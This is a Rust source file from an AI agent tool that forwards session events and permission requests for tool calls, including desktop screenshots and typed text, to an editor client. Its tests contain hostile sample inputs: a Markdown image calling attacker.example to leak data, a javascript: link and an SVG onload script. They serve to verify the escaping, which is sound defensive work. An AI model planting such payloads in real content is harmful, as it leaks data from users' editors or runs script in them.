//! A session's envelopes to the ACP client as they come, the gate's questions to the client
//! and its answers back, and each turn's result to the prompt waiting for it.

use std::sync::Arc;

use agent_client_protocol::v1::schema::{RequestPermissionRequest, RequestPermissionResponse};
use serde_json::{Value, json};

use super::updates::{Projection, permission_options};
use super::{Acp, AcpSession, Connection, lock, notify, typed, wire};
use crate::event::{DesktopPreview, Payload, PermissionData, PermissionRequest, Status};
use crate::policy::Decision;
use crate::surface::desktop_preview::checked_image;

/// A session's envelopes, as they come, to the client; permission requests to the client and
/// its answers back to the gate; the turn's result to the prompt waiting for it.
pub(super) async fn forward(
    acp: Arc<Acp>,
    session: Arc<AcpSession>,
    mut events: tokio::sync::mpsc::UnboundedReceiver<crate::event::SharedEvent>,
    cx: Connection,
) {
    let mut projection = Projection::default();
    while let Some(event) = events.recv().await {
        let envelope = &event.envelope;
        for update in projection.updates(envelope, false) {
            if let Err(e) = notify(&cx, &session.id, update) {
                tracing::debug!(error = %e, "the ACP client is gone");
                return;
            }
        }
        match &envelope.payload {
            Payload::Permission(PermissionData::Request(request)) => {
                let diffs = projection.diffs_of(&request.tool_call.tool_call_id);
                ask_client(&acp, &session.id, request, diffs, &cx);
            }
            Payload::Result(result) => {
                if let Some(done) = lock(&session.waiting).take() {
                    let _ = done.send(Some(result.clone()));
                }
            }
            Payload::Status(s) if s.status == Status::Dead => {
                if let Some(done) = lock(&session.waiting).take() {
                    let _ = done.send(None);
                }
                return;
            }
            _ => {}
        }
    }
}

/// Sends a gate question to the client; its choice is applied like a terminal answer.
fn ask_client(
    acp: &Arc<Acp>,
    session: &str,
    request: &PermissionRequest,
    diffs: Vec<Value>,
    cx: &Connection,
) {
    let request_id = request.request_id.clone();
    let question: Result<RequestPermissionRequest, _> = typed(question(session, request, diffs));
    let question = match question {
        Ok(question) => question,
        Err(e) => {
            tracing::error!(error = %e, "cannot ask the client");
            return;
        }
    };
    let (acp, session, cx2) = (acp.clone(), session.to_string(), cx.clone());
    let asked = cx.spawn(async move {
        let decision = match cx2.send_request(question).block_task().await {
            Ok(answer) => decision_of(&answer),
            Err(e) => {
                tracing::warn!(error = %e, "permission request failed; denying");
                Decision::Deny
            }
        };
        // Already resolved (a cancel, a timeout) is fine: the answer is simply late.
        let _ = acp.manager.answer(&session, &request_id, decision);
        Ok(())
    });
    if let Err(e) = asked {
        tracing::error!(error = %e, "cannot ask the client");
    }
}

/// The `session/request_permission` params: the call, with its diffs, or a desktop action's
/// marked screenshot as an image block and its description as a text block, and the options.
fn question(session: &str, request: &PermissionRequest, diffs: Vec<Value>) -> Value {
    let mut content = diffs;
    if let Some(desktop) = &request.preview.desktop {
        content.extend(desktop_content(desktop));
    }
    let mut tool_call = json!(request.tool_call);
    if !content.is_empty() {
        tool_call["content"] = json!(content);
    }
    json!({
        "sessionId": session,
        "toolCall": tool_call,
        "options": permission_options(request),
    })
}

/// What an editor shows of a desktop action: the screen with the target marked (only a real
/// PNG or JPEG is sent), then the action in words with its window and the whole text it types.
fn desktop_content(desktop: &DesktopPreview) -> Vec<Value> {
    let mut blocks = Vec::new();
    match checked_image(desktop) {
        Some(Ok(image)) => blocks.push(json!({"type": "content", "content": {
            "type": "image", "data": image.data_base64, "mimeType": image.mime_type}})),
        Some(Err(refused)) => {
            tracing::warn!(%refused, "a desktop request's screenshot is not sent to the client");
        }
        None => {}
    }
    let mut words = desktop.description.clone();
    if let Some(window) = &desktop.window {
        let pid = window.pid.map(|p| format!(", pid {p}")).unwrap_or_default();
        words.push_str(&format!("\nwindow: {} “{}”{pid}", window.app, window.title));
    }
    if let Some(text) = &desktop.text {
        let what = if desktop.action == "key" {
            "keys"
        } else {
            "types"
        };
        words.push_str(&format!("\n{what}: {text}"));
    }
    blocks.push(json!({"type": "content", "content": {"type": "text", "text": fenced(&words)}}));
    blocks
}

/// `text` as a Markdown code block: editors render a tool call's text as Markdown, and a
/// window title such as `![x](https://attacker.example/?leak)` must show as the words it is,
/// not load an image or become a link. The fence is longer than any run of backticks inside.
fn fenced(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}\n{text}\n{fence}")
}

fn decision_of(answer: &RequestPermissionResponse) -> Decision {
    let answer = wire(answer);
    match (
        answer["outcome"]["outcome"].as_str(),
        answer["outcome"]["optionId"].as_str(),
    ) {
        (Some("selected"), Some("allow")) => Decision::Allow,
        (Some("selected"), Some("allow_all")) => Decision::AllowAll,
        (Some("selected"), Some("disable")) => Decision::Disable,
        (Some("selected"), _) => Decision::Deny,
        _ => Decision::Cancel,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::DesktopWindow;
    use crate::surface::desktop_preview::tests::png_base64;

    fn desktop_request(mime_type: &str, data: String) -> PermissionRequest {
        let mut request =
            PermissionRequest::sample("computer", json!({"action": "type", "text": "hello"}));
        request.preview.desktop = Some(Box::new(DesktopPreview {
            action: "type".into(),
            description: "type 5 characters into XTerm “bash”".into(),
            text: Some("hello".into()),
            window: Some(DesktopWindow {
                id: "0x1".into(),
                title: "bash".into(),
                app: "XTerm".into(),
                pid: Some(77),
            }),
            image: Some(crate::event::PreviewImage {
                mime_type: mime_type.into(),
                data_base64: data,
            }),
            ..DesktopPreview::default()
        }));
        request
    }

    /// The question as the SDK sends it (through its typed request and back to JSON): the
    /// image block and the text block survive.
    #[test]
    fn a_desktop_question_carries_the_marked_screenshot_and_its_description() {
        let png = png_base64();
        let request = desktop_request("image/png", png.clone());
        let typed: RequestPermissionRequest = typed(question("s1", &request, Vec::new())).unwrap();
        let sent = wire(&typed);
        let content = sent["toolCall"]["content"].as_array().unwrap();
        assert_eq!(content.len(), 2, "{sent}");
        assert_eq!(content[0]["type"], "content");
        assert_eq!(content[0]["content"]["type"], "image");
        assert_eq!(content[0]["content"]["mimeType"], "image/png");
        assert_eq!(content[0]["content"]["data"], png.as_str());
        assert_eq!(content[1]["content"]["type"], "text");
        assert_eq!(
            content[1]["content"]["text"],
            "```\ntype 5 characters into XTerm “bash”\nwindow: XTerm “bash”, pid 77\ntypes: hello\n```"
        );
        assert_eq!(sent["options"][0]["optionId"], "allow");
    }

    /// Attack: a window title written as Markdown (an image that would leak to a server when
    /// drawn, a link) and a fence of its own stays inside the code block: the block's fence is
    /// longer than any run of backticks in the text.
    #[test]
    fn a_hostile_window_title_cannot_leave_the_code_block() {
        let mut request = desktop_request("image/png", png_base64());
        let title = "````\n![x](https://attacker.example/?leak=1) [click](javascript:alert(1))";
        if let Some(desktop) = request.preview.desktop.as_mut() {
            desktop.window.as_mut().unwrap().title = title.into();
        }
        let sent = question("s1", &request, Vec::new());
        let text = sent["toolCall"]["content"][1]["content"]["text"]
            .as_str()
            .unwrap();
        assert!(text.starts_with("`````\n"), "{text}");
        assert!(text.ends_with("\n`````"), "{text}");
        assert!(text.contains(title), "{text}");
        // Nothing inside closes it: no run of five backticks between the fences.
        assert!(!text[6..text.len() - 6].contains("`````"), "{text}");
    }

    /// Attack: an "image" that is HTML is not passed on as one; the words still are.
    #[test]
    fn a_screenshot_that_is_not_an_image_is_not_sent() {
        use base64::Engine;
        let html = base64::engine::general_purpose::STANDARD.encode("<svg onload=alert(1)>");
        for (mime, data) in [("image/svg+xml", html.clone()), ("image/png", html)] {
            let request = desktop_request(mime, data);
            let sent = question("s1", &request, Vec::new());
            let content = sent["toolCall"]["content"].as_array().unwrap();
            assert_eq!(content.len(), 1, "{sent}");
            assert_eq!(content[0]["content"]["type"], "text");
        }
        // A plain call has no content added.
        let plain = PermissionRequest::sample("shell", json!({"command": "ls"}));
        assert!(
            question("s1", &plain, Vec::new())["toolCall"]
                .get("content")
                .is_none()
        );
    }
}
